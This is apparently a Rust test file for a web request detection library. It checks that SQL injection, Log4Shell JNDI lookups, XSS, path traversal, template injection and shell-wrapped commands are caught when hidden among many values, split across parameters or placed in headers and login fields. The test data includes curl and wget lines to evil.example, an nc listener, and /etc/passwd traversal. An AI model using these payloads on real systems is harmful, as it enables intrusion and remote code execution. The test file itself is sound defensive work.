//! Ways round the rules: many values, places that are seldom looked at, words of a shell before a command, token names.

use std::collections::BTreeMap;

use watchpost_detect::{RuleSet, inspect_request};
use watchpost_model::event::{Category, Event};

use crate::support::{id, percent, start};

const ATTACK: &str = "1' union select user,pass from users-- ";

fn headers(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect()
}

fn is_found(uri: &str, pairs: &[(&str, &str)], body: Option<&str>) -> bool {
    let method = if body.is_some() { "POST" } else { "GET" };
    !inspect_request(method, uri, &headers(pairs), body).findings.is_empty()
}

#[test]
fn an_attack_among_thousands_of_values_is_found_wherever_it_stands() {
    let many = |n: usize| (0..n).map(|n| format!("{n:x}")).collect::<Vec<_>>();
    let query = format!("/p?{}", many(5_000).join("&"));
    let json = |text: &str| format!("[\"{text}\"]");
    let agent = [("user-agent", "${jndi:ldap://x.example/a}")];
    let cookie = format!("a={}", percent("<script>alert(1)</script>"));
    // A query of thousands blinds no other place.
    assert!(is_found(&query, &[("content-type", "application/json")], Some(&json(ATTACK))), "body");
    assert!(is_found(&query, &agent, None), "agent");
    assert!(is_found(&query, &[("cookie", &cookie)], None), "cookie");
    assert!(!is_found(&query, &[], None), "the query itself is nothing");
    // Values that could be something have room for a while, and the last ones always.
    let marked: Vec<String> = (0..20_000).map(|n| format!("{n}'")).collect();
    let mut list = marked.clone();
    list[5_000] = ATTACK.to_owned();
    let json_type = [("content-type", "application/json")];
    assert!(
        is_found("/p", &json_type, Some(&serde_json::to_string(&list).expect("JSON"))),
        "among marked ones"
    );
    list = marked;
    list[19_999] = ATTACK.to_owned();
    assert!(is_found("/p", &json_type, Some(&serde_json::to_string(&list).expect("JSON"))), "the last one");
    // In a place of thousands: first, in the middle, last.
    for at in [0, 3_000, 5_999] {
        let mut values = many(6_000);
        values[at] = ATTACK.to_owned();
        let list = serde_json::to_string(&values).expect("JSON");
        assert!(is_found("/p", &[("content-type", "application/json")], Some(&list)), "JSON at {at}");
        let form: Vec<String> = values.iter().map(|value| format!("k={}", percent(value))).collect();
        let form = form.join("&");
        let of_form = [("content-type", "application/x-www-form-urlencoded")];
        assert!(is_found("/p", &of_form, Some(&form)), "form at {at}");
        assert!(is_found(&format!("/p?{form}"), &[], None), "query at {at}");
    }
}

/// Applications that join the values of one name read what no single value is.
#[test]
fn an_attack_over_several_values_of_one_name_is_found() {
    let form = [("content-type", "application/x-www-form-urlencoded")];
    for text in [
        "id=1%20union/*&id=*/select%201,2",
        "id=1%20union/*&x=y&id=*/select%201,2",
        "id=1%20union%2F%2A&id=%2a%2fselect/*&id=*/1,2",
        // Without a comment, in another case, with letters hidden, with something in between.
        "id=1+union&id=select+1,2",
        "id=0%20union%20all&id=select%20null,null--",
        "id=0%20union%20all&x=y&ID=%73elect%20null,null--",
        "id=1+union&id=(select+password+from+users)",
        "id=1+and+extractvalue(1&id=1)",
    ] {
        assert!(is_found(&format!("/?{text}"), &[], None), "query {text}");
        assert!(is_found("/p", &form, Some(text)), "body {text}");
    }
    for text in [
        "sort=select&sort=union",
        "tag=union+square&tag=please+select",
        "q=select+a+size&q=the+union+of+both",
        "item=drop+box&item=delete+old+files&item=insert+coin",
        "url=https://a.example/select&url=https://b.example/union",
        "note=Tom's+select+wines&note=O'Brien",
    ] {
        assert!(!is_found(&format!("/?{text}"), &[], None), "query {text}");
        assert!(!is_found("/p", &form, Some(text)), "body {text}");
    }
}

/// A part of a path is a value wherever it stands: as the only one, the first, or before many others.
#[test]
fn every_part_of_a_path_is_a_value() {
    for attack in [
        "for %i in (*) do del %i",
        "a=nc;$a -lvp 4444",
        "div(7,-2)",
        "<(cat file)",
        "{7*7}",
        ";id",
        "{{7*7}}",
        "..%2f..%2fetc%2fpasswd",
    ] {
        let part = if attack.contains("%2f") { attack.to_owned() } else { percent(attack) };
        let deep = "/a".repeat(12);
        for path in [format!("/{part}"), format!("/{part}{deep}"), format!("{deep}/{part}")] {
            assert!(is_found(&path, &[], None), "{path}");
        }
    }
    for part in ["Foo_(bar)", "it's-here", "a;v=1", "%7Bid%7D", "$metadata", "caf%C3%A9%20%26%20bar"] {
        for path in [format!("/{part}"), format!("/{part}/a/b"), format!("/a/{part}")] {
            assert!(!is_found(&path, &[], None), "{path}");
        }
    }
}

#[test]
fn a_command_behind_words_of_a_shell_is_a_command() {
    for line in [
        "; if curl http://evil.example/x;then x;fi",
        "; while :;do curl http://evil.example/x;done",
        "; if true;then wget http://evil.example/x;fi",
        "; f(){ curl http://evil.example/x;};f",
        "; case x in x) curl http://evil.example/x;;esac",
        "; until curl http://evil.example/x;do x;done",
        "; for i in 1;do curl http://evil.example/x;done",
        "; coproc curl http://evil.example/x",
        "; doas curl http://evil.example/x",
        "; setsid curl http://evil.example/x",
        "; stdbuf -o0 curl http://evil.example/x",
        "; nice -n 5 curl http://evil.example/x",
        "; builtin eval curl http://evil.example/x",
        "; eval whoami",
        "; command whoami",
        "; time whoami",
        "; nice whoami",
        "; alias a='whoami'",
    ] {
        assert!(is_found(&format!("/p?host={}", percent(line)), &[], None), "{line}");
    }
    for prose in [
        "; if it works, then do it again; else tell me",
        "do it; time flies; nice weather",
        "while we wait; then we go; else we stay",
        "the case is in x) and if not; do nothing",
        "a nice day; command and control; time to go",
    ] {
        assert!(!is_found(&format!("/p?text={}", percent(prose)), &[], None), "{prose}");
    }
}

#[test]
fn logins_methods_and_names_of_headers_are_looked_at() {
    let login = |change: fn(&mut Event)| {
        let mut event = Event::new(id(start(), 1), start(), Category::Authentication, "login_failure");
        change(&mut event);
        !RuleSet::embedded().inspect_event(&event).findings.is_empty()
    };
    assert!(login(|event| event.actor = Some("admin' or 1=1-- ".to_owned())), "actor");
    assert!(login(|event| event.session = Some("../../../../etc/passwd".to_owned())), "session");
    for name in ["anna", "O'Brien", "anna@example.org", "CORP\\anna", "Müller, Anna"] {
        let mut event = Event::new(id(start(), 1), start(), Category::Authentication, "login_failure");
        event.actor = Some(name.to_owned());
        assert!(RuleSet::embedded().inspect_event(&event).findings.is_empty(), "{name}");
    }
    // base64 of `admin' or 1=1-- :x`
    assert!(is_found("/", &[("authorization", "Basic YWRtaW4nIG9yIDE9MS0tIDp4")], None), "basic");
    assert!(!is_found("/", &[("authorization", "Basic YW5uYTpzZWNyZXQx")], None), "an ordinary login");
    assert!(is_found("/", &[("${jndi:ldap://x.example/a}", "1")], None), "name of a header");
    let found = inspect_request("${jndi:ldap://x.example/a}", "/", &BTreeMap::new(), None);
    assert!(!found.findings.is_empty(), "method");
}
